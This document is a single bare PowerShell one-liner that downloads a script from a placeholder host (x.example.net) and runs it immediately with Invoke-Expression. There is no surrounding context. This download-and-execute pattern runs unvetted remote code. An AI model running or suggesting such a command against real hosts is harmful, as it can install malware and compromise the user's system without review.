iex (iwr -UseBasicParsing https://x.example.net/s.ps1)
